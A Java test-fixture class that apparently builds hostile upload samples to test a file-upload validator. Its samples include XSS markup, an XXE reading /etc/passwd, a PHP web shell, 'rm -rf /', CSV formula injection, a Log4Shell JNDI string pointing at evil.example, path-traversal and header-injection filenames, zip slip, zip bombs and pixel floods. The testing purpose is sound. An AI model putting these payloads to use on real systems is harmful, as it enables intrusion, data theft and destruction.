package org.tongchuang.evidence;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.springframework.core.io.ByteArrayResource;

/** Files that somebody might hand in to do harm, made when asked for: no sample lies in the repository. */
final class HostileFiles {

    private static final String SCRIPT = "<html><body><script>alert(1)</script></body></html>";
    private static final List<String> TAKEN = List.of("jpg", "jpeg", "png", "pdf", "docx", "xlsx");

    private HostileFiles() {}

    /** One of them. */
    record Hostile(String name, ByteArrayResource file) {

        Hostile(String name, byte[] content) {
            this(name, new ByteArrayResource(content));
        }

        byte[] content() {
            return file.getByteArray();
        }
    }

    /** Not one of these may be kept. */
    static List<Hostile> never() {
        List<Hostile> files = new ArrayList<>();
        contents().forEach((what, content) -> {
            TAKEN.forEach(extension -> files.add(new Hostile(what + "." + extension, content)));
            files.add(new Hostile("附件." + what, content));
        });
        polyglots(files);
        archives(files);
        floods(files);
        return files;
    }

    /** Pictures that are good for something, with what must not get any further. */
    static List<Hostile> defused() {
        List<Hostile> files = new ArrayList<>();
        for (int turn = 0; turn <= 9; turn++) {
            files.add(new Hostile("相机" + turn + ".jpg", Samples.photograph(turn)));
        }
        for (int marker = 0xE1; marker <= 0xEF; marker++) {
            files.add(
                    new Hostile("段" + marker + ".jpg", withSegment(marker, "GPS 31.2304N ICC_PROFILE Photoshop 3.0")));
        }
        files.add(new Hostile("注释.jpg", withSegment(0xFE, "31.2304N 121.4737E")));
        files.add(new Hostile("注释.png", withChunk("tEXt", "Comment\0" + Samples.POSITION)));
        files.add(new Hostile("国际注释.png", withChunk("iTXt", "XML:com.adobe.xmp\0\0\0\0\0" + Samples.POSITION)));
        files.add(new Hostile("位置.png", withChunk("eXIf", "MM\0*" + Samples.POSITION)));
        String gbk = new String("照片".getBytes(Charset.forName("GBK")), StandardCharsets.ISO_8859_1);
        for (String name : List.of(
                gbk + ".jpg",
                "../../../../etc/cron.d/x.jpg",
                "..\\..\\windows\\x.jpg",
                "C:\\autoexec.jpg",
                "/etc/passwd.jpg",
                "换行\r\nSet-Cookie: x=1.jpg",
                "零\0.exe.jpg",
                "\u202Egpj.exe.jpg",
                "\u200B\uFEFF看不见.jpg",
                "a.php.jpg",
                "CON.jpg",
                "分号;x=1.jpg",
                "引号\"'><svg onload=alert(1)>.jpg",
                "%2e%2e%2fx.jpg",
                "${jndi:ldap://evil.example/x}.jpg",
                "长".repeat(400) + ".jpg",
                "emoji👩‍👩‍👧‍👦𠮷.jpg")) {
            files.add(new Hostile(name, Samples.photograph(1)));
        }
        return files;
    }

    private static Map<String, byte[]> contents() {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put("svg", Samples.text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
        all.put("svgz", hex("1f8b0800000000000003"));
        all.put("html", Samples.text(SCRIPT));
        all.put("bom.html", Samples.text("\uFEFF" + SCRIPT));
        all.put("utf16.html", SCRIPT.getBytes(StandardCharsets.UTF_16));
        all.put("xhtml", Samples.text("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"));
        all.put("mhtml", Samples.text("MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT));
        all.put("xml", Samples.text("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"));
        all.put("php", Samples.text("<?php system($_GET['x']); ?>"));
        all.put("jsp", Samples.text("<%@page import='java.lang.*'%><% Runtime.getRuntime(); %>"));
        all.put("js", Samples.text("alert(document.cookie)"));
        all.put("sh", Samples.text("#!/bin/sh\nrm -rf /\n"));
        all.put("bat", Samples.text("@echo off\r\nformat c:\r\n"));
        all.put("ps1", Samples.text("Invoke-Expression (New-Object Net.WebClient)"));
        all.put("vbs", Samples.text("CreateObject(\"WScript.Shell\").Run \"calc\""));
        all.put("hta", Samples.text("<hta:application/><script>x</script>"));
        all.put("url", Samples.text("[InternetShortcut]\r\nURL=file://evil.example/x\r\n"));
        all.put("csv", Samples.text("=cmd|' /C calc'!A0,1\n"));
        all.put("txt", Samples.text("只是文字"));
        all.put("gb18030.txt", "只是文字".getBytes(Charset.forName("GB18030")));
        all.put("eml", Samples.text("From: a@example.org\nSubject: x\n\nx"));
        all.put("rtf", Samples.text("{\\rtf1\\object\\objdata 0105}"));
        all.put("exe", program());
        all.put("elf", padded("7f454c4602010100"));
        all.put("macho", padded("feedfacf01000007"));
        all.put("class", padded("cafebabe00000034"));
        all.put("dex", padded("6465780a30333500"));
        all.put("wasm", padded("0061736d01000000"));
        all.put("lnk", padded("4c0000000114020000000000c0000000"));
        all.put("doc", padded("d0cf11e0a1b11ae1"));
        all.put("zip", Samples.zip(Map.of("读我.txt", "不是文档")));
        all.put("jar", Samples.zip(Map.of("META-INF/MANIFEST.MF", "Main-Class: X\n", "X.class", "x")));
        all.put("odt", Samples.zip(Map.of("mimetype", "application/vnd.oasis.opendocument.text")));
        all.put("slip.zip", Samples.zip(Map.of("../../../etc/passwd", "x")));
        all.put("rar", padded("526172211a070100"));
        all.put("7z", padded("377abcaf271c0004"));
        all.put("gz", padded("1f8b0808"));
        all.put("bz2", padded("425a6839314159265359"));
        all.put("xz", padded("fd377a585a000004"));
        all.put("gif", Samples.gif());
        all.put("gifjs", Samples.text("GIF89a=alert(1);"));
        all.put("bmp", Samples.picture("bmp", 8, 8));
        all.put("tif", padded("49492a0008000000"));
        all.put("psd", padded("38425053000100000000"));
        all.put("ico", padded("00000100010010100000"));
        all.put("webp", Samples.text("RIFF\0\0\0\0WEBPVP8 "));
        all.put("heic", Samples.text("\0\0\0\u0018ftypheic\0\0\0\0mif1heic"));
        all.put("mp4", Samples.text("\0\0\0\u0018ftypmp42\0\0\0\0mp42isom"));
        all.put("mp3", padded("494433030000"));
        all.put("swf", padded("435753"));
        all.put("ps", Samples.text("%!PS-Adobe-3.0\n(x) run"));
        all.put("sqlite", Samples.text("SQLite format 3\0"));
        all.put("ttf", padded("0001000000"));
        all.put("empty", new byte[0]);
        all.put("one", new byte[] {'x'});
        all.put("random", random());
        return all;
    }

    private static void polyglots(List<Hostile> files) {
        byte[] archive = Samples.zip(Map.of("X.class", "x"));
        for (byte[] tail : List.of(
                archive,
                Samples.docx(),
                Samples.docm(),
                Samples.pdf(),
                Samples.text(SCRIPT),
                Samples.text("<ScRiPt>alert(1)"),
                Samples.text("<?PHP system($x);"))) {
            files.add(new Hostile("双重.jpg", Samples.joined(Samples.jpg(), tail)));
            files.add(new Hostile("双重.png", Samples.joined(Samples.png(), tail)));
        }
        files.add(new Hostile("双重.pdf", Samples.joined(Samples.pdf(), archive)));
        files.add(new Hostile("前置.pdf", Samples.joined(Samples.text("x".repeat(900)), Samples.pdf())));
        files.add(new Hostile("前置.pdf", Samples.joined(Samples.jpg(), Samples.pdf())));
        files.add(new Hostile("前置.docx", Samples.joined(Samples.jpg(), Samples.docx())));
        files.add(new Hostile("前置.xlsx", Samples.joined(Samples.text("MZ"), Samples.xlsx())));
        files.add(new Hostile("注释.jpg", withSegment(0xFE, "<script>alert(1)</script>")));
        files.add(new Hostile("文字.png", withChunk("tEXt", "Comment\0<?php system($x);")));
    }

    private static void archives(List<Hostile> files) {
        for (String live : List.of(
                "word/vbaProject.bin",
                "word/activeX/activeX1.xml",
                "word/embeddings/oleObject1.bin",
                "word/x.exe",
                "word/X.JS",
                "word/a.ps1",
                "word/media/a.lnk",
                "word/a.hta",
                "word/a.scr",
                "word/a.dll")) {
            Map<String, String> entries = Samples.office("word/document.xml");
            entries.put(live, "x");
            files.add(new Hostile("含程序.docx", Samples.zip(entries)));
        }
        files.add(new Hostile("含宏.docx", Samples.declaredMacros()));
        files.add(new Hostile("名单.docx", Samples.xlsx()));
        files.add(new Hostile("名单.xlsx", Samples.docx()));
        Map<String, String> many = Samples.office("word/document.xml");
        for (int i = 0; i < 5001; i++) {
            many.put("word/media/" + i, "");
        }
        files.add(new Hostile("条目过多.docx", Samples.zip(many)));
        files.add(new Hostile("炸弹.docx", sayingItIsHuge(Samples.docx())));
        files.add(new Hostile("炸弹.xlsx", sayingItIsHuge(Samples.xlsx())));
        for (int length : new int[] {30, 80, 150, 250}) {
            files.add(new Hostile("断了.docx", Arrays.copyOf(Samples.docx(), length)));
        }
    }

    private static void floods(List<Hostile> files) {
        for (int[] size : new int[][] {{60_000, 60_000}, {1, 50_000_000}, {50_000_000, 1}, {6401, 6401}}) {
            files.add(new Hostile("像素.png", Samples.pngOfSize(size[0], size[1])));
        }
        files.add(new Hostile("像素.jpg", jpgOfSize(65_500, 65_500)));
        for (int length : new int[] {9, 20, 33, 45, 60}) {
            files.add(new Hostile("断了.png", Arrays.copyOf(Samples.png(), length)));
        }
    }

    /** Every entry of the directory claims four gigabytes less one. */
    private static byte[] sayingItIsHuge(byte[] archive) {
        ByteBuffer bytes = ByteBuffer.wrap(archive.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (int at = 0; at < archive.length - 46; at++) {
            if (bytes.getInt(at) == 0x02014b50) {
                bytes.putInt(at + 24, 0xFFFFFFFE);
            }
        }
        return bytes.array();
    }

    private static byte[] jpgOfSize(int width, int height) {
        byte[] jpg = Samples.jpg();
        for (int at = 0; at < jpg.length - 9; at++) {
            if ((jpg[at] & 0xFF) == 0xFF && (jpg[at + 1] & 0xFF) == 0xC0) {
                ByteBuffer.wrap(jpg).putShort(at + 5, (short) height).putShort(at + 7, (short) width);
                break;
            }
        }
        return jpg;
    }

    private static byte[] withSegment(int marker, String text) {
        byte[] content = Samples.text(text);
        ByteBuffer segment = ByteBuffer.allocate(4 + content.length);
        segment.put((byte) 0xFF)
                .put((byte) marker)
                .putShort((short) (content.length + 2))
                .put(content);
        byte[] jpg = Samples.jpg();
        byte[] start = Samples.joined(Arrays.copyOf(jpg, 2), segment.array());
        return Samples.joined(start, Arrays.copyOfRange(jpg, 2, jpg.length));
    }

    private static byte[] withChunk(String type, String text) {
        byte[] content = Samples.text(text);
        ByteBuffer chunk = ByteBuffer.allocate(12 + content.length);
        chunk.putInt(content.length).put(Samples.text(type)).put(content);
        java.util.zip.CRC32 sum = new java.util.zip.CRC32();
        sum.update(chunk.array(), 4, 4 + content.length);
        chunk.putInt((int) sum.getValue());
        byte[] png = Samples.png();
        byte[] start = Samples.joined(Arrays.copyOf(png, 33), chunk.array());
        return Samples.joined(start, Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] program() {
        byte[] program = Arrays.copyOf(Samples.text("MZ"), 512);
        program[0x3C] = 0x40;
        System.arraycopy(Samples.text("PE\0\0"), 0, program, 0x40, 4);
        return program;
    }

    private static byte[] padded(String hex) {
        return Arrays.copyOf(hex(hex), 600);
    }

    private static byte[] hex(String hex) {
        return HexFormat.of().parseHex(hex);
    }

    private static byte[] random() {
        byte[] bytes = new byte[4096];
        new Random(7).nextBytes(bytes);
        return bytes;
    }
}
